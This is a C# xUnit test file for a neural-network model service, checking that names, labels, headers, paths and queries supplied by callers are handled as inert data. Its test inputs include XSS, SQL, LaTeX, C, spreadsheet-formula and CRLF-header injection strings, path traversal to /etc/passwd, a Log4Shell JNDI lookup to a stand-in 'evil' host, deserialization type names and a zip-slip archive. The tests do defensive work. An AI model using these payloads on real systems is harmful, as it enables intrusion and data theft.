using System.Diagnostics;
using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using Microsoft.Extensions.DependencyInjection;
using NnService.Api.Storage;
using NnService.Api.TrainingJobs;
using NnService.Api.TrainingJobs.Watching;
using NnService.Tests;

namespace NnService.Api.Tests;

/// <summary>
/// What a caller names or writes is data wherever it comes out again: in pictures, pages, LaTeX, C, spreadsheets, headers, paths and queries.
/// docs/security.md lists the attempts with their tests; here are those that have no other place.
/// </summary>
public sealed partial class InputIsNotCodeTests(TestService service) : IClassFixture<TestService>
{
    private static readonly string[] s_hostile =
    [
        "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'--><!--", "]]>", "&lt;", "&#0;",
        "*/ int evil = system(\"touch evil\"); /*", "\"); system(\"touch evil\"); (\"", "\\\"); //", "??/\n#include \"/etc/passwd\"", "%s%n%x", "\\u0022",
        "\\input{/etc/passwd}", "\\write18{touch evil}", "\\end{document}", "$\\immediate$", "^^5cinput", "{}}}{",
        "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "a\r\nX-Evil: 1", "a\nINF forged", "\u001b[31m", "{0} {@Evil}",
        "../../evil", "'; DROP TABLE Networks; --", "${jndi:ldap://evil}", "{{7*7}}", "<?php", "(a+)+$",
    ];

    private readonly Wire _wire = service.Wire;

    [Fact]
    public void In_a_picture_names_are_text()
    {
        var plain = Elements(Draw("a title"));
        foreach (var name in s_hostile.Select(WithoutControls))
        {
            var picture = Draw(name);

            Assert.Equal(name, picture.Descendants().First(element => element.Name.LocalName == "title").Value);
            Assert.Equal(plain, Elements(picture));
            Assert.DoesNotContain(picture.Descendants().Attributes(), attribute => attribute.Name.LocalName.StartsWith("on", StringComparison.Ordinal));
        }

        static XDocument Draw(string title) => XDocument.Parse(LossChart.Draw([new HistoryPoint(1, 1, 1, null, 0.1, null, null, 1)], title, null));

        static string[] Elements(XDocument picture) => [.. picture.Descendants().Select(element => element.Name.LocalName)];

        // XML cannot hold them at all; the names of models, which stand above a picture, have none.
        static string WithoutControls(string text) => string.Concat(text.Where(sign => !char.IsControl(sign)));
    }

    [Fact]
    public async Task No_answer_that_repeats_a_name_is_a_page()
    {
        await Make("pages");
        foreach (var name in s_hostile)
        {
            var (escaped, json) = (Uri.EscapeDataString(name), JsonSerializer.Serialize(name));
            foreach (var answer in new[]
            {
                await _wire.Get($"/{escaped}", ("Accept", "text/html")), await _wire.Get($"networks/{escaped}"), await _wire.Get($"/v2/models/{escaped}"),
                await _wire.Get($"networks?{escaped}=1"), await _wire.Post("networks", $$"""{"name":{{json}},"layers":[{"type":"dense","units":1}]}"""),
                await _wire.Post("networks", $$"""{{{json}}:1}"""), await _wire.Post("models/pages/predict", """{"rows":[{NAME:{}}]}""".Replace("NAME", json, StringComparison.Ordinal)),
                await _wire.PostCsv("models/pages/predict", $"\"{name.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\n1\n"),
            })
            {
                Assert.InRange((int)answer.Status, 400, 499);
                Assert.Contains(answer.ContentType, new[] { "application/problem+json", "application/json" });
                Assert.Equal("nosniff", answer.Headers.GetValues("X-Content-Type-Options").Single());
                using var read = JsonDocument.Parse(answer.Text);
            }
        }

        var shown = (await _wire.Get("models/pages")).Text;
        Assert.Equal(s_hostile, (await _wire.Get("models/pages/versions/1")).Json["features"]!.AsArray().Select(name => (string)name!));
        Assert.DoesNotContain("\u001b", shown, StringComparison.Ordinal);
    }

    [Fact]
    public async Task In_LaTeX_names_bring_no_command_of_their_own()
    {
        await Make("latex-hostile");
        await Make("latex-plain", [.. s_hostile.Select((_, i) => $"name{i}")]);
        string[] escapes = // what stands for a sign
        [
            @"\textbackslash", @"\textless", @"\textgreater", @"\textbar", @"\textasciitilde", @"\textasciicircum", @"\textquotedbl", @"\textquotesingle",
            @"\{", @"\}", @"\#", @"\$", @"\%", @"\&", @"\_", @"\ensuremath", @"\^", @"\~", @"\string", @"\char", @"\ ",
        ];

        foreach (var read in new Func<string, Task<Answer>>[]
        {
            model => _wire.Get($"models/{model}/formula", ("Accept", "text/x-latex")),
            model => _wire.Post($"models/{model}/trace", $$"""{"row":[{{string.Join(',', s_hostile.Select(_ => "1"))}}],"target":"NO"}""", ("Accept", "text/x-latex")),
        })
        {
            var (hostile, plain) = ((await read("latex-hostile")).Text, (await read("latex-plain")).Text);
            Assert.True(plain.StartsWith("\\documentclass", StringComparison.Ordinal), plain);
            Assert.Empty(Commands(hostile).Except(Commands(plain)).Except(escapes));
            Assert.DoesNotContain("^^", hostile, StringComparison.Ordinal);
            Assert.Equal(Dollars(plain), Dollars(hostile));
            Assert.Equal(hostile.IndexOf("\\end{document}", StringComparison.Ordinal), hostile.LastIndexOf("\\end{document}", StringComparison.Ordinal));
        }

        static IEnumerable<string> Commands(string latex) => Command().Matches(latex).Select(match => match.Value).Distinct();

        static int Dollars(string latex) => Dollar().Count(latex);
    }

    [CompilersFact]
    public async Task In_C_names_are_comments_and_texts()
    {
        await Make("c-hostile");
        using var folder = ForeignTools.NewFolder();
        using (var zip = new ZipArchive(await _wire.Http.GetStreamAsync("/api/v1/models/c-hostile/export/c"), ZipArchiveMode.Read, leaveOpen: false, Encoding.UTF8))
        {
            Assert.Equal(["manifest.json", "model.c", "model.h", "test_vectors.json"], zip.Entries.Select(entry => entry.FullName).Order());
            zip.ExtractToDirectory(folder.Path);
        }

        foreach (var language in ForeignTools.Languages)
            Assert.Equal("16 of 16 test vectors agree to the bit\n", ForeignTools.CompileStrictlyAndRun(folder.Path, language, "-DMODEL_TEST", "model.c"));
        Assert.False(File.Exists(Path.Combine(folder.Path, "evil")));
        var code = await File.ReadAllTextAsync(Path.Combine(folder.Path, "model.c"));
        Assert.All(Included().Matches(code), line => Assert.Contains(line.Groups[1].Value, new[] { "\"model.h\"", "<math.h>", "<stdio.h>", "<string.h>", "<stdint.h>", "<stddef.h>", "<float.h>", "<stdlib.h>", "<limits.h>" }));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\")", "\"'=HYPERLINK(\"\"http://evil.example\"\")\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("-2", "-2")]
    [InlineData("+1.5e3", "+1.5e3")]
    [InlineData("-", "-")]
    [InlineData("a=b", "a=b")]
    public async Task In_a_spreadsheet_a_label_is_no_formula(string label, string cell)
    {
        var name = $"sheet-{Convert.ToHexStringLower(Encoding.UTF8.GetBytes(label))[..Math.Min(30, label.Length * 2)]}-{label.Length}";
        var made = await _wire.Post("models", $$"""
            {"name":"{{name}}","features":["=x"],"labels":["other",{{JsonSerializer.Serialize(label)}}],
             "network":{"layers":[{"type":"dense","activation":"softmax","weights":[[-1,1]],"bias":[0,0]}]} }
            """);
        Assert.True(made.Status == HttpStatusCode.Created, made.Text);

        foreach (var path in new[] { $"models/{name}/predict", $"/invocations?model={name}" })
        {
            var lines = (await _wire.PostCsv(path, "=x\n100\n", ("Accept", "text/csv"))).Text.Split("\r\n");
            Assert.StartsWith("=x,prediction,", lines[0], StringComparison.Ordinal); // the caller's own cells come back as they came
            Assert.StartsWith($"100,{cell},", lines[1], StringComparison.Ordinal);
        }

        var exact = (await _wire.Post($"models/{name}/predict", """{"rows":[[100]]}""")).Json;
        Assert.Equal(label, (string?)exact["predictions"]![0]!["label"]);
    }

    [Fact]
    public async Task In_a_spreadsheet_a_cell_of_a_stored_table_is_no_formula()
    {
        await _wire.PostCsv("datasets?name=sheet-cells", "x,=y,note\n1,-2.5,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n2,-3,-5\n3,-4,-\n");
        await _wire.Post("models", """{"name":"sheet-cells","features":["x"],"network":{"layers":[{"type":"dense","weights":[[1]],"bias":[0]}]}}""");

        var answer = await _wire.Post("models/sheet-cells/predict", """{"dataset":"sheet-cells"}""", ("Accept", "text/csv"));

        Assert.Equal("x,'=y,note,prediction\r\n1,-2.5,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",1\r\n2,-3,-5,2\r\n3,-4,-,3\r\n", answer.Text);
    }

    [Theory]
    [InlineData("X-Request-Id: a\r\n X-Evil: 1")]
    [InlineData("X-Request-Id: a%0d%0aX-Evil: 1")]
    [InlineData("X-Request-Id: <script>")]
    [InlineData("X-Request-Id: a\u0001b")]
    [InlineData("Prefer: wait=1\u000bX-Evil: 1")]
    public async Task In_a_header_it_does_not_come_back(string header)
    {
        using var folder = new TemporaryFolder();
        using var own = await ServiceHere.Start(folder.Path);

        var answer = await RawHttp.Send(own.Wire.Http, $"GET /api/v1/networks?limit=1 HTTP/1.1\nHost: localhost\n{header}\nConnection: close\n\n");

        Assert.True(RawHttp.StatusOf(answer) is 200 or 400, answer);
        foreach (var evil in new[] { "X-Evil", "<script>", "\u0001" })
            Assert.DoesNotContain(evil, answer.Split("\r\n\r\n")[0], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/swagger/../appsettings.json")]
    [InlineData("/swagger/..%2f..%2fappsettings.json")]
    [InlineData("/swagger/%2e%2e/%2e%2e/appsettings.json")]
    [InlineData("/swagger/..%5c..%5cappsettings.json")]
    [InlineData("/swagger/....//....//appsettings.json")]
    [InlineData("//etc/passwd")]
    [InlineData("/swagger//etc/passwd")]
    [InlineData("/api/v1/datasets/..%2f..%2fnnservice.db/content")]
    [InlineData("/api/v1/datasets/%2e%2e/content")]
    [InlineData("/api/v1/models/..%2f..%2fnnservice.db/export/json")]
    [InlineData("/api/v1/models/any/export/..%2f..%2fnnservice.db")]
    [InlineData("/v2/models/..%2f..%2fnnservice.db")]
    public async Task In_a_path_it_leads_to_no_file(string path)
    {
        using var folder = new TemporaryFolder();
        using var own = await ServiceHere.Start(folder.Path);

        var answer = await RawHttp.Send(own.Wire.Http, $"GET {path} HTTP/1.1\nHost: localhost\nConnection: close\n\n");

        Assert.Equal(404, RawHttp.StatusOf(answer));
        foreach (var content in new[] { "Serilog", "SQLite format", "root:" })
            Assert.DoesNotContain(content, answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Names_are_no_paths_and_files_have_names_of_the_service_s_own()
    {
        foreach (var name in new[] { "..", "../evil", "..\\evil", "/etc/passwd", "C:evil", "con/", ".hidden", "a/b", "a%2fb", "a\0b", "~root", "a b" })
        {
            var (query, json) = (Uri.EscapeDataString(name), JsonSerializer.Serialize(name));
            Assert.Equal(HttpStatusCode.BadRequest, (await _wire.PostCsv($"datasets?name={query}", "a\n1\n")).Status);
            Assert.Equal(HttpStatusCode.BadRequest, (await _wire.Post("networks", $$"""{"name":{{json}},"layers":[{"type":"dense","units":1}]}""")).Status);
            Assert.Equal(HttpStatusCode.BadRequest, (await _wire.Post("models", $$"""{"name":{{json}},"network":{"layers":[{"type":"dense","weights":[[1]]}]} }""")).Status);
        }

        await _wire.PostCsv("datasets?name=paths", "../../evil,/etc/passwd\n../x,/y\n");
        var folder = service.Services.GetRequiredService<DataFolder>().Path;
        Assert.All(Directory.EnumerateFileSystemEntries(folder, "*", SearchOption.AllDirectories), path =>
            Assert.Matches("^(blobs|checkpoints|quarantine|nnservice\\.db(-wal|-shm)?|lock|reserve|[0-9a-f-]{32,36}(\\.[a-z]+)?)$", Path.GetFileName(path)));
    }

    [Fact]
    public async Task An_archive_is_not_unpacked()
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            await using var evil = zip.CreateEntry("../../evil.csv").Open();
            await evil.WriteAsync("a\n1\n"u8.ToArray());
        }

        foreach (var type in new[] { "application/zip", "application/x-tar", "application/octet-stream" })
            Assert.Equal(HttpStatusCode.UnsupportedMediaType, (await Sent(type)).Status);
        Assert.Equal(HttpStatusCode.BadRequest, (await Sent("text/csv")).Status);

        Task<Answer> Sent(string type) => _wire.Send(
            HttpMethod.Post, "datasets?name=archive", new ByteArrayContent(bytes.ToArray()) { Headers = { { "Content-Type", type } } });
    }

    [Theory]
    [InlineData("""{"$type":"System.Diagnostics.Process, System.Diagnostics.Process","layers":[{"type":"dense","units":1}]}""")]
    [InlineData("""{"layers":[{"type":"System.IO.FileInfo","units":1}]}""")]
    [InlineData("""{"layers":[{"type":"NnService.Engine.Layers.DenseSpec","units":1}]}""")]
    [InlineData("""{"layers":[{"type":"dense","$type":"System.IO.FileInfo","units":1}]}""")]
    [InlineData("""{"layers":[{"type":"dense","units":1,"activation":{"type":"System.Activator"}}]}""")]
    [InlineData("""{"__proto__":{"x":1},"layers":[{"type":"dense","units":1}]}""")]
    [InlineData("""{"$ref":"#/","layers":[{"type":"dense","units":1}]}""")]
    public async Task The_name_of_a_type_makes_none(string body)
    {
        var refused = await _wire.Post("networks", body);

        Assert.Equal(HttpStatusCode.BadRequest, refused.Status);
        Assert.DoesNotContain("Assembly", refused.Text, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("networks?prefix=%25", 400)]
    [InlineData("networks?prefix=.*", 400)]
    [InlineData("networks?prefix='%20OR%201=1%20--", 400)]
    [InlineData("networks?prefix=_", 200)] // a sign of names, and no wildcard
    [InlineData("training-jobs?model=%25", 200)]
    public async Task In_a_filter_it_is_neither_a_pattern_nor_SQL(string filter, int status)
    {
        await _wire.Post("networks", """{"name":"filtered","layers":[{"type":"dense","units":1}]}""");

        var deleted = await _wire.Delete(filter);

        Assert.Equal(status, (int)deleted.Status);
        if (status == 200)
            Assert.Equal(0, (int)deleted.Json["count"]!);
        Assert.Equal(HttpStatusCode.OK, (await _wire.Get("networks/filtered")).Status);
    }

    [Theory]
    [InlineData("sort=test.accuracy')%20FROM%20x%20--")]
    [InlineData("sort=test.accuracy;DROP%20TABLE%20Networks")]
    [InlineData("sort=%27")]
    [InlineData("fields=id,(SELECT%201)")]
    [InlineData("cursor=1%20OR%201=1")]
    [InlineData("state=running'%20OR%20''='")]
    public async Task In_a_list_it_is_no_SQL(string query) => Assert.Equal(HttpStatusCode.BadRequest, (await _wire.Get($"training-jobs?{query}")).Status);

    [Fact]
    public async Task What_would_keep_a_regular_expression_busy_is_read_at_once()
    {
        var long50K = new string('a', 50_000) + "!";
        var begun = Stopwatch.GetTimestamp();

        await _wire.Get("networks", ("X-Request-Id", long50K[..30_000]));
        await _wire.Post("networks", $$"""{"name":"{{long50K}}","layers":[{"type":"dense","units":1}]}""");
        await _wire.PostCsv("datasets?name=busy", $"a\n{long50K}\n{new string('1', 50_000)}x\n{string.Concat(Enumerable.Repeat("2026-01-", 6000))}\n");
        await _wire.Get("networks", ("Accept", string.Join(',', Enumerable.Repeat("a/b;q=0.1", 2000))));
        await _wire.Get("networks", ("Prefer", string.Concat(Enumerable.Repeat("wait=1, ", 3000))));

        Assert.True(Stopwatch.GetElapsedTime(begun) < TimeSpan.FromSeconds(20), $"{Stopwatch.GetElapsedTime(begun)}");
    }

    private Task Make(string model) => Make(model, s_hostile);

    private async Task Make(string model, string[] names)
    {
        var made = await _wire.Post("models", $$"""
            {"name":"{{model}}","target":{{JsonSerializer.Serialize($"{names[0]} itself")}},"features":{{JsonSerializer.Serialize(names)}},"labels":["NO",{{JsonSerializer.Serialize(names[7])}}],
             "precision":"float64","network":{"layers":[{"type":"dense","activation":"softmax","weights":[{{string.Join(',', names.Select((_, i) => $"[0.0{i + 1},-0.5]"))}}],"bias":[0,0]}]} }
            """);
        Assert.True(made.Status is HttpStatusCode.Created, made.Text);
    }

    [GeneratedRegex(@"\\([A-Za-z]+|.)")]
    private static partial Regex Command();

    [GeneratedRegex(@"(?<!\\)\$")]
    private static partial Regex Dollar();

    [GeneratedRegex(@"^#include\s+(\S+)", RegexOptions.Multiline)]
    private static partial Regex Included();
}
